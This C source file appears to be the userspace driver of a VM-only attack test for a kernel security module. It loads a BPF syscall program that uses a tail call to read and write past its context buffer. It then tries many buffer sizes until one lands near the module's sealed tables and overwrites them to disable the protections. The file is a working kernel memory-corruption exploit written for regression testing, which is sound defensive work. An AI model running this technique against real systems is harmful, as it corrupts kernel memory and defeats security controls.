// SPDX-License-Identifier: GPL-2.0
/*
 * tailctx.c - `ratchet-tailctx`: show a syscall program reading and
 * writing past its context buffer through a tail call (tailctx.bpf.c).
 * For tests/vm/attacks/rt3-tailctx.sh, in a test VM only.
 *
 *   ratchet-tailctx               reach past the context, harmlessly
 *   ratchet-tailctx reach free    the same route on to the tables: every
 *                                 kind FREE, ftrace_enabled no knob (as
 *                                 ratchet-ctxwrite), if a context buffer
 *                                 lands within 64 KiB below them
 *   ratchet-tailctx reach FILE    put FILE's bytes (ratchet-ctxwrite save) back
 *   ratchet-tailctx hold PIN      load, and pin the tail-calling program
 *                                 at PIN (before a lock: the scan's case)
 *
 * Prints each step; exit 0 the program reached past its context (or the
 * tables), 1 the kernel refused a step or no buffer landed, 2 other.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include "ratchet.h"
#include "tables.h"
#include "attack-tailctx.skel.h"

#define SIZE 12288

static int step(const char *what, int err)
{
	printf("tailctx: %s: %s\n", what, err ? strerror(err) : "ok");
	if (!err)
		return 0;
	return err == EPERM || err == EACCES || err == EINVAL ? 1 : 2;
}

/* Run @fd on a SIZE-byte context; its return value or -errno. */
static int run(int fd)
{
	static char ctx[SIZE];
	LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = ctx,
		    .ctx_size_in = sizeof(ctx));

	if (bpf_prog_test_run_opts(fd, &o))
		return -errno;
	return (int)o.retval;
}

/* Run @fd on a context of @n bytes; its return value or -errno. */
static int run_n(int fd, __u32 n)
{
	static char ctx[65535];
	LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = ctx, .ctx_size_in = n);

	if (bpf_prog_test_run_opts(fd, &o))
		return -errno;
	return (int)o.retval;
}

/* Context sizes tried: slab caches up to 8 KiB, page blocks above. */
static const __u32 sizes[] = { 1100,  2100,  4100,  8192,  12288,
			       16384, 24576, 32768, 49152, 65535 };

/* Runs big2 through small on contexts of every size, a few times each. */
static int reach(struct attack_tailctx *s, const struct ratchet_tables *t)
{
	int fd = bpf_program__fd(s->progs.small), r, i, k;
	__s64 best = -1;

	s->bss->uptr = (__u64)(unsigned long)t;
	s->bss->slot = 1;
	for (k = 0; k < 200; k++)
		for (i = 0; i < (int)(sizeof(sizes) / sizeof(sizes[0])); i++) {
			r = run_n(fd, sizes[i]);
			if (r < 0)
				return step("run the tail-calling program", -r);
			if (r == 5) {
				printf("tailctx: context of %u bytes at 0x%llx, "
				       "the tables %lld bytes past it: written\n",
				       sizes[i],
				       (unsigned long long)s->bss->ctxaddr,
				       (long long)s->bss->dist);
				return 0;
			}
			if (s->bss->dist > 0 &&
			    (best < 0 || s->bss->dist < best))
				best = s->bss->dist;
			if (!k)
				printf("tailctx: %u bytes: returned %d, context at "
				       "0x%llx, the tables %lld bytes past it\n",
				       sizes[i], r,
				       (unsigned long long)s->bss->ctxaddr,
				       (long long)s->bss->dist);
		}
	printf("tailctx: no context buffer landed within 64 KiB below the "
	       "tables (tables at 0x%llx; nearest buffer below them %lld bytes "
	       "away)\n",
	       (unsigned long long)s->bss->found, (long long)best);
	return 1;
}

/* The tables' address (iter/bpf_map), then reach(). */
static int reach_tables(struct attack_tailctx *s, const char *how)
{
	static struct ratchet_snapshot snap;
	static struct ratchet_tables t;
	const char *what;
	int err;

	if (snapshot(&snap))
		return step("read the tables through ratchet_snapshot", ENOENT);
	t = snap.tables;
	if ((err = tables_wanted(&t, how)))
		return step("read the saved tables", err);
	s->bss->want = snap.tables_map.id;
	if ((err = iter_once(s->progs.find_value, &what)))
		return step(what, err);
	if (!s->bss->found)
		return step("find the tables' address", ENOENT);
	if (reach(s, &t))
		return 1;
	if (snapshot(&snap))
		return step("read the tables back", ENOENT);
	return step("the sealed tables now hold what was written (read by "
		    "ratchet_snapshot)",
		    memcmp(&snap.tables, &t, sizeof(t)) ? EIO : 0);
}

int main(int argc, char **argv)
{
	struct attack_tailctx *s = attack_tailctx__open_and_load();
	__u32 zero = 0;
	__u32 one = 1;
	int fd, r;

	if (!s)
		return step("load a syscall program that tail-calls", errno);
	fd = bpf_program__fd(s->progs.big2);
	if (bpf_map_update_elem(bpf_map__fd(s->maps.jmp), &one, &fd, 0))
		return step("put the far-reaching program in the array", errno);
	fd = bpf_program__fd(s->progs.big);
	if (bpf_map_update_elem(bpf_map__fd(s->maps.jmp), &zero, &fd, 0))
		return step("put the far-reaching program in the array", errno);
	if (argc == 3 && !strcmp(argv[1], "reach"))
		return reach_tables(s, argv[2]);
	if (argc == 3 && !strcmp(argv[1], "hold"))
		return step("pin the tail-calling program",
			    bpf_program__pin(s->progs.small, argv[2]) ? errno
								      : 0);
	r = run(fd);
	printf("tailctx: run directly on %d bytes: %s\n", SIZE,
	       r < 0 ? strerror(-r) : "ran");
	r = run(bpf_program__fd(s->progs.small));
	if (r < 0)
		return step("run the tail-calling program", -r);
	printf("tailctx: run through the tail call on %d bytes: returned %d, "
	       "word past the context read 0x%llx, then 0x%llx\n",
	       SIZE, r, (unsigned long long)s->bss->before,
	       (unsigned long long)s->bss->after);
	return r == 2 && s->bss->after == 0x7274337461696cULL ? 0 : 1;
}
